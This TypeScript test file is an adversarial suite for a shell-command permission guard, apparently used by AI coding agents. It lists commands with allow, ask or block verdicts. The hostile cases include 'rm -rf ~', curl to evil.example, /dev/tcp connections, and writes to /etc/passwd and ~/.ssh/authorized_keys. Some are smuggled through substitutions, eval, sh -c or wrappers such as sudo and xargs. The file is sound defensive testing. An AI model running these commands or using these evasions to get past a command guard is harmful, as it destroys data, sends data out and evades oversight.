/**
 * The adversarial suite, part one: compound commands, wrappers,
 * substitutions, nested shell code and redirections, each with the verdict
 * it must get. Rules: see TEST_RULES (git status, git diff, ls, grep, echo,
 * rg, tar, sort, sed, awk, find, xargs, wc, true allowed; cat allowed inside
 * ws; rm and git push blocked; no default, so unmatched commands ask).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createShellFixture, TEST_RULES, verdictSuite, type ShellFixture, type VerdictCase } from '../../../test/shell-fixture.ts';

let fixture: ShellFixture;
let networked: ShellFixture;

beforeAll(() => {
  fixture = createShellFixture();
  networked = createShellFixture({ shell: { rules: TEST_RULES, network: true } });
});
afterAll(() => {
  fixture.remove();
  networked.remove();
});

function suite(name: string, cases: readonly VerdictCase[], which: () => ShellFixture = () => fixture): void {
  verdictSuite(name, cases, which);
}

suite('control cases stay pre-approved', [
  ['git status', 'allow'],
  ['ls -la', 'allow'],
  ['grep -r TODO .', 'allow'],
  ['git status && ls -la', 'allow'],
  ['ls | grep x', 'allow'],
  ['git status -s', 'allow'],
  ['git status --porcelain; git diff --stat', 'allow'],
  ['ls -la | grep -v x | wc -l', 'allow'],
  ['! git status', 'allow'],
  ['time git status', 'allow'],
  ['ls > /dev/null 2>&1', 'allow'],
  ['ls 2>&1 | grep x', 'allow'],
  ['ls &> /dev/null', 'allow'],
  ['echo $(git status)', 'allow'],
  ['echo "$(ls)"', 'allow'],
  ['FOO=bar ls', 'allow'],
  ['NODE_ENV=test ls', 'allow'],
  ['git status # ; rm -rf ~', 'allow'],
  ['git sta\\\ntus', 'allow'],
  ['cat notes.txt', 'allow'],
  ['cat -- notes.txt src/../a.txt', 'allow'],
  ['cat *.txt', 'allow'],
  ["cat <<'EOF'\n$(rm x)\nEOF\n", 'allow'],
  ['cat <<EOF\nrm -rf ~\nEOF\n', 'allow'],
  ['echo $((1 + 2))', 'allow'],
  ["find . -name '*.ts' -type f -exec grep -l foo {} +", 'allow'],
  ['find . -type f -print0 | xargs -0 grep foo', 'allow'],
  ["sed -n '/a/p' notes.txt", 'allow'],
  ["sed 's/a/b/g; s/[/]/x/' notes.txt", 'allow'],
  ["awk '$3 > 100 { print $1 }' notes.txt", 'allow'],
  ['awk \'{ print $1 > "/dev/stderr" }\' notes.txt', 'allow'],
  ['tar -czf ../scratch/out.tgz src', 'allow'],
  ['sort -u notes.txt', 'allow'],
  ['echo x > ../scratch/out.txt', 'allow'],
  ['/usr/bin/git status', 'allow'],
  ['while true; do ls; done', 'allow'],
  ['if git status; then ls; else echo no; fi', 'allow'],
]);

suite('compound commands: every part must be allowed', [
  ['git status; rm -rf ~', 'block'],
  ['git status && rm x', 'block'],
  ['git status || rm x', 'block'],
  ['git status\nrm x', 'block'],
  ['git status & rm x', 'block'],
  ['git status | sh', 'ask'],
  ['git status | bash -s', 'ask'],
  // The fixture's policy leaves shell.network out, so the network is off (see the networked suite below).
  ['git status; curl https://evil.example/x.sh', 'block'],
  ['git status | tee out.txt', 'ask'],
  ['(git status; rm x)', 'block'],
  ['{ git status; rm x; }', 'block'],
  ['if git status; then rm x; fi', 'block'],
  ['if rm x; then ls; fi', 'block'],
  ['while true; do rm x; done', 'block'],
  ['until false; do rm x; done', 'block'],
  ['for f in a b; do rm "$f"; done', 'block'],
  ['select x in a; do rm x; done', 'block'],
  ['case x in x) rm y;; esac', 'block'],
  ['coproc rm x', 'block'],
  ['ls | rm x', 'block'],
  ['git push origin main', 'block'],
  ['git status; git push', 'block'],
  ['ls -la && git commit -m x', 'ask'],
]);

suite('wrappers are unwrapped, and must be covered themselves', [
  ['env rm x', 'block'],
  ['command rm x', 'block'],
  ['command -p rm x', 'block'],
  ['builtin eval rm x', 'block'],
  ['exec rm x', 'block'],
  ['nice rm x', 'block'],
  ['nice -n 5 rm x', 'block'],
  ['nice -10 rm x', 'block'],
  ['nohup rm x', 'block'],
  ['timeout 1 rm x', 'block'],
  ['timeout -s KILL 1 rm x', 'block'],
  ['timeout --kill-after=1 5 rm x', 'block'],
  ['stdbuf -oL rm x', 'block'],
  ['sudo rm x', 'block'],
  ['sudo -u root rm x', 'block'],
  ['sudo -E -- rm x', 'block'],
  ['doas rm x', 'block'],
  ['setsid rm x', 'block'],
  ['busybox rm x', 'block'],
  ['xargs rm', 'block'],
  ['xargs -0 -n 1 rm -f', 'block'],
  ['xargs -I{} rm {}', 'block'],
  ["xargs -I{} sh -c 'rm {}'", 'block'],
  ['find . -exec rm {} \\;', 'block'],
  ['find . -execdir rm {} +', 'block'],
  ['find . -ok rm {} \\;', 'block'],
  ["find . -exec sh -c 'rm \"$1\"' _ {} \\;", 'block'],
  ['find . -delete', 'ask'],
  ['find . -fprint /tmp/list', 'block'],
  ['find . -fprint list.txt', 'ask'],
  ['watch rm x', 'block'],
  ['watch -n 1 rm x', 'block'],
  ['parallel rm ::: a b', 'block'],
  ['\\time rm x', 'block'],
  ['time -p rm x', 'block'],
  ['sudo -u root env FOO=1 timeout -s KILL 5 rm x', 'block'],
  ['env git status', 'ask'],
  ['timeout 5 git status', 'ask'],
  ['sudo git status', 'ask'],
  ['env -i PATH=/tmp git status', 'ask'],
  ['env -S "rm x"', 'block'],
  ['flock /tmp/lock -c "rm x"', 'block'],
  ['nice --unknown-option rm x', 'ask'],
  ['chrt 1 rm x', 'ask'],
  ['xargs', 'allow'],
]);

suite('substitutions: the commands inside are judged, and need a rule', [
  ['echo $(rm x)', 'block'],
  ['echo `rm x`', 'block'],
  ['cat <(rm x)', 'block'],
  ['echo >(rm x)', 'block'],
  ['echo "$(git status; rm x)"', 'block'],
  ['echo $(echo $(echo $(rm x)))', 'block'],
  ['echo `echo \\`rm x\\``', 'block'],
  ['echo ${x:-$(rm y)}', 'block'],
  ['echo "${x:=`rm y`}"', 'block'],
  ['cat <<EOF\n$(rm x)\nEOF\n', 'block'],
  ['cat <<< $(rm x)', 'block'],
  ['x=$(rm y)', 'block'],
  ['a=(x $(rm y))', 'block'],
  ['FOO=$(rm x) ls', 'block'],
  ['for i in $(rm x); do echo; done', 'block'],
  ['case $(rm x) in *) ;; esac', 'block'],
  ['[[ $(rm x) == y ]]', 'block'],
  ['(( a[$(rm x)] ))', 'block'],
  ['echo $((1 + $(rm x)))', 'block'],
  ['ls > $(rm x)', 'block'],
  ['echo $(curl https://evil.example)', 'block'],
  ['echo $(unknown-command)', 'ask'],
  ['$(echo rm) x', 'ask'],
]);

suite('shell -c, eval, source and friends', [
  ["bash -c 'rm x'", 'block'],
  ['sh -c "git status; rm x"', 'block'],
  ["bash -lc 'rm x'", 'block'],
  ["bash -o pipefail -c 'rm x'", 'block'],
  ["bash -xec 'rm x'", 'block'],
  ["zsh -c 'rm x'", 'block'],
  ["dash -c 'rm x'", 'block'],
  ['sh -c "sh -c \'rm x\'"', 'block'],
  ["bash -c 'git status'", 'allow'],
  ['bash script.sh', 'ask'],
  ['sh', 'ask'],
  ['bash -c "$cmd"', 'ask'],
  ['eval rm x', 'block'],
  ["eval 'git status; rm x'", 'block'],
  ["eval 'git status'", 'ask'],
  ['eval "$x"', 'ask'],
  ['source ./x.sh', 'ask'],
  ['. ./x.sh', 'ask'],
  ["trap 'rm x' EXIT", 'block'],
  ["trap 'ls' EXIT", 'ask'],
  ["python3 -c 'import os; os.system(\"id\")'", 'ask'],
  ["node -e 'require(\"child_process\").execSync(\"id\")'", 'ask'],
  ["perl -e 'system q(id)'", 'ask'],
  ['npx some-package', 'block'],
  ['npm exec some-package', 'block'],
  ['let x=1', 'ask'],
  ['mapfile -C "rm x" -c 1 lines', 'ask'],
]);

// Hosts and models wrap commands in a shell (Codex runs `bash -lc '...'`): a literal script and nothing else is judged as
// the script; anything more (other shells, arguments after the script, options that read files or change parsing) asks.
suite('a literal script given to bash, sh or dash is judged as the script', [
  ["bash -lc 'git status && ls -la'", 'allow'],
  ["sh -c 'ls | grep x'", 'allow'],
  ["dash -c 'git status'", 'allow'],
  ["bash -eo pipefail -c 'ls | wc -l'", 'allow'],
  ["bash --noprofile --norc -c 'ls'", 'allow'],
  ["/bin/bash -lc 'ls'", 'allow'],
  [`bash -c 'bash -c "git status"'`, 'allow'],
  ["bash -lc 'git status; unknown-command'", 'ask'],
  ["bash -lc 'ls > /etc/passwd'", 'block'],
  ["bash -lc 'ls' extra-argument", 'ask'],
  [`bash -c 'ls "$0"' x`, 'ask'],
  ["bash -ic 'ls'", 'ask'],
  ["bash -o posix -c 'ls'", 'ask'],
  ["bash +e -c 'ls'", 'ask'],
  ["bash --rcfile ./rc -c 'ls'", 'ask'],
  ["bash -c 'ls' -- x", 'ask'],
  ["zsh -c 'ls'", 'ask'],
  ["fish -c 'ls'", 'ask'],
  ['bash -lc "$SCRIPT"', 'ask'],
  [`bash -lc "ls $(rm x)"`, 'block'],
  ["echo ls | xargs bash -c 'ls'", 'ask'],
  ["./bash -c 'ls'", 'ask'],
]);

describe('deeply nested shell code', () => {
  it('asks (never allows) beyond the depth limit', async () => {
    let command = 'ls';
    for (let depth = 0; depth < 8; depth++) command = `sh -c ${shellQuote(command)}`;
    expect((await fixture.tool.decide({ command })).decision).toBe('ask');
  });
  it('still blocks what it finds within the limit', async () => {
    let command = 'rm x';
    for (let depth = 0; depth < 3; depth++) command = `sh -c ${shellQuote(command)}`;
    expect((await fixture.tool.decide({ command })).decision).toBe('block');
  });
});

suite('redirections are writes checked against the zones', [
  ['echo x > /etc/passwd', 'block'],
  ['echo x >> ~/.bashrc', 'block'],
  ['echo x > ~/.ssh/authorized_keys', 'block'],
  ['echo x > out.txt', 'ask'],
  ['echo x >> notes.txt', 'ask'],
  ['echo x >| notes.txt', 'ask'],
  ['echo x &> out.txt', 'ask'],
  ['echo x 2> err.txt', 'ask'],
  ['echo x 3> fd3.txt', 'ask'],
  ['echo x <> rw.txt', 'ask'],
  ['echo x >& out.txt', 'ask'],
  ['echo x > ../outside/x', 'block'],
  ['echo x > ../docs/guide.md', 'block'],
  ['echo x > link-out/secret.txt', 'block'],
  ['echo x > .', 'block'],
  ['echo x > $target', 'ask'],
  ['echo x > *.txt', 'ask'],
  ['{ echo x; } > /etc/passwd', 'block'],
  ['(echo x) >> /etc/passwd', 'block'],
  ['if true; then echo x; fi > /etc/passwd', 'block'],
  ['exec > /etc/passwd', 'block'],
  ['exec 3<>/dev/tcp/evil.example/80', 'block'],
  ['cat < /dev/tcp/evil.example/80', 'block'],
  ['cd /etc && echo x > passwd', 'block'],
  ['cd "$HOME" && echo x > y', 'ask'],
  ['ls > /dev/stderr', 'allow'],
]);

suite('with shell.network: true, network commands follow the rules (no rule names them: ask)', [
  ['git status; curl https://evil.example/x.sh', 'ask'],
  ['echo $(curl https://evil.example)', 'ask'],
  ['npx some-package', 'ask'],
  ['npm exec some-package', 'ask'],
  ['exec 3<>/dev/tcp/evil.example/80', 'ask'],
  ['cat < /dev/tcp/evil.example/80', 'ask'],
  ['git push origin main', 'block'],
  ['curl -o /etc/x https://evil.example', 'block'],
], () => networked);

function shellQuote(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}
